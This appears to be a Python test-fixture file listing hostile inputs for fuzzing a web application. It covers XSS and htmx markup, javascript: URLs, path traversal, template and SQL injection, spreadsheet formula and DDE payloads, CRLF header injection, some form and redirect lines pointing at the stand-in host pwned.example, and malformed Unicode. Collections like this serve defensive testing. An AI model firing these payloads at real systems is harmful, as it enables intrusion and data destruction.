"""What somebody may type who means harm, or whose keyboard does: our own collection, by what each of them tries."""

MARKUP = [
    "<pwned>mark</pwned>",
    "<script>pwned()</script>",
    "</textarea></select></title></script><pwned data-pwned=1>",
    '"><pwned autofocus onfocus=pwned()>',
    "' onmouseover='pwned()' x='",
    "`><img src=x onerror=pwned()>",
    "<svg/onload=pwned()><pwned/>",
    "<!-- --><pwned><!--",
    "]]><pwned/><![CDATA[",
    "<?xml version='1.0'?><pwned/>",
    "</bdi></p></section><pwned>",
    "&lt;pwned&gt; &#60;pwned&#62; &amp;lt;",
    "<style>*{display:none}</style>",
    "<base href=//pwned.example/>",
    "<meta http-equiv=refresh content='0;//pwned.example'>",
    "<iframe src=//pwned.example></iframe>",
    '<form action="//pwned.example"><input name=key>',
    "<a href=javascript:pwned()>here</a>",
    "\u003cpwned\u003e \\u003cpwned\\u003e",
    "<scr<pwned>ipt>",
    "<w:t>pwned</w:t></w:p><w:p><w:r>",
]
HTMX = [
    '<div hx-get="//pwned.example" hx-trigger=load>',
    '" hx-on:click="pwned()" data-hx-get="/pwned',
    "' data-hx-post='/w/pwned' hx-vals='js:pwned()'",
    '<section id="now" hx-swap-oob="true">pwned</section>',
    "<hx-partial hx-target='#main'><pwned></hx-partial>",
]
ADDRESSES = [
    "javascript:pwned()",
    "JaVaScRiPt:pwned()",
    "data:text/html,<pwned>",
    "//pwned.example/",
    "https:pwned.example",
    "http://127.0.0.1:9/pwned.png",
    "\\\\pwned.example\\share",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "file:///etc/hostname",
    "CON.txt",
]
TEMPLATES = [
    "{{7*7}}",
    "{% debug %}",
    "{{ request.session }}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "%(name)s %s %d",
    "{0.__class__}",
]
QUERIES = ["' OR 1=1 --", '"; DROP TABLE workshop_case; --', "1; SELECT pg_sleep(9)", "%' AND '1'='1", "\\' \\", "_%[]"]
FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    '=HYPERLINK("http://127.0.0.1:9/pwned","go")',
    "=cmd|'/c calc'!A0",
    "\uff1d1+1",
    "  =1+1",
]
WRITING = [
    "\u202egnp.exe\u202c",
    "\u2066isolated\u2069 \u2067\u2067",
    "O\u200bne\ufeff word\u2060",
    "\u0420\u0430\u0443\u0440\u0430l",  # Cyrillic that looks Latin
    "\uff28\uff41\uff4e\uff41",
    "Z" + "\u0300\u0489" * 40 + "a",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466 \U0001f3f3\ufe0f\u200d\U0001f308",
    "\u0645\u0631\u062d\u0628\u0627 \u05e9\u05dc\u05d5\u05dd 12 abc",
    "\u1112\u1161\u11ab\u1100\u1173\u11af",
    "\U0001d4d7\U0001d4ea \U00020bb7\u91ce\u5bb6",
    "e\u0301 = \u00e9, \ufb01 \u00df \u0130i",
    "\u0e17\u0e35\u0e48 \u0939\u093f\u0928\u094d\u0926\u0940",
    "\u2028line\u2029paragraph",
    "\u00a0\u3000spaced\u3000\u00a0",
]
EMPTY = [
    " ",
    "\u200b",
    "\u2060\ufeff",
    "\u3164",
    "\u00ad",
    "\u2062\u2063",
    "\u034f",
    "\u180e",
    "\u061c",
    "\t\r\n",
    "\u2800",
]
BROKEN = [
    "nul\0nul",
    "bell\x07 escape\x1b[31m delete\x7f",
    "lone \ud800 surrogate",
    "\udfff\ud800",
    "not a character \uffff \ufdd0",
    "private \ue000",
    "one\r\nSet-Cookie: pwned=1\r\n\r\ntwo",
    "%0d%0aLocation:%20//pwned.example",
]
NUMBERS = [
    "1e308",
    "1e999999",
    "NaN",
    "Infinity",
    "-1",
    "-0",
    "0",
    "9223372036854775808",
    "9" * 400,
    "9" * 5000,
    "0x10",
    "\u0663",
    "1,5",
    "true",
    "null",
    "[]",
    "{}",
]
LONG = ["a" * 100_000, "word " * 20_000, "\u0301" * 50_000, "*[(" * 17_000, "\U0001f9d1" * 30_000]

TEXTS = MARKUP + HTMX + ADDRESSES + TEMPLATES + QUERIES + FORMULAS + WRITING
ALL = TEXTS + EMPTY + BROKEN + NUMBERS + LONG
